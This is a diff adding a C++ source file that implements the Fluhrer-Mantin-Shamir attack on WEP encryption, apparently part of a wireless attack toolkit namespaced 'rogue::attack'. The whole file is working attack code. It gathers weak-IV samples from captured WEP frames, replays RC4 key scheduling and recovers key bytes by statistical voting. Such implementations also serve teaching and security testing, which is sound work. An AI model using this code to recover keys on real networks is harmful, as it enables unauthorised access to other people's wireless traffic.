@@ -1,0 +1,91 @@
+#include "attack/fms.hpp"
+
+#include <algorithm>
+#include <numeric>
+
+#include "util/assert.hpp"
+
+namespace rogue::attack {
+
+FmsCracker::FmsCracker(std::size_t key_len) : key_len_(key_len) {
+  ROGUE_ASSERT_MSG(key_len == crypto::kWep40KeyLen || key_len == crypto::kWep104KeyLen,
+                   "FMS targets 5- or 13-byte WEP keys");
+  per_byte_.resize(key_len_);
+}
+
+void FmsCracker::add_sample(const crypto::WepIv& iv, std::uint8_t first_cipher_byte,
+                            std::uint8_t known_plain) {
+  ++total_samples_;
+  if (!crypto::is_fms_weak_iv(iv, key_len_)) return;
+  const std::size_t a = static_cast<std::size_t>(iv[0]) - 3;
+  if (a >= key_len_) return;
+  ++weak_samples_;
+  per_byte_[a].push_back(
+      Sample{iv, static_cast<std::uint8_t>(first_cipher_byte ^ known_plain)});
+}
+
+bool FmsCracker::add_frame(util::ByteView wep_body, std::uint8_t known_plain) {
+  const auto header = crypto::wep_parse_header(wep_body);
+  if (!header || header->ciphertext.empty()) return false;
+  add_sample(header->iv, header->ciphertext[0], known_plain);
+  return true;
+}
+
+std::optional<util::Bytes> FmsCracker::try_recover(std::size_t min_votes) const {
+  util::Bytes key(key_len_, 0);
+
+  for (std::size_t a = 0; a < key_len_; ++a) {
+    std::array<std::uint32_t, 256> votes{};
+    std::size_t ballots = 0;
+
+    for (const Sample& s : per_byte_[a]) {
+      // Replay the KSA for the first A+3 steps using IV + recovered bytes.
+      std::array<std::uint8_t, 256> state;
+      std::iota(state.begin(), state.end(), 0);
+      std::uint8_t j = 0;
+      const std::size_t steps = a + 3;
+      bool ok = true;
+      for (std::size_t i = 0; i < steps; ++i) {
+        std::uint8_t k_i = 0;
+        if (i < 3) {
+          k_i = s.iv[i];
+        } else {
+          k_i = key[i - 3];  // previously recovered secret bytes
+        }
+        j = static_cast<std::uint8_t>(j + state[i] + k_i);
+        std::swap(state[i], state[j]);
+      }
+      // Resolved condition: S[1] < A+3 and S[1] + S[S[1]] == A+3, so the
+      // first output byte depends on S[A+3] with ~5% bias.
+      const std::uint8_t z = state[1];
+      if (!(z < steps && static_cast<std::size_t>(z) + state[z] == steps)) {
+        ok = false;
+      }
+      if (!ok) continue;
+
+      // Invert: out = S[S[1] + S[S[1]]]; after the next KSA step with the
+      // unknown key byte, out sits where K[A] moved it.
+      const std::uint8_t out = s.first_keystream;
+      // Find index of `out` in the current state.
+      std::uint8_t inv = 0;
+      for (int idx = 0; idx < 256; ++idx) {
+        if (state[static_cast<std::size_t>(idx)] == out) {
+          inv = static_cast<std::uint8_t>(idx);
+          break;
+        }
+      }
+      const auto guess =
+          static_cast<std::uint8_t>(inv - j - state[steps]);
+      ++votes[guess];
+      ++ballots;
+    }
+
+    if (ballots < min_votes) return std::nullopt;
+    const auto best =
+        std::max_element(votes.begin(), votes.end()) - votes.begin();
+    key[a] = static_cast<std::uint8_t>(best);
+  }
+  return key;
+}
+
+}  // namespace rogue::attack
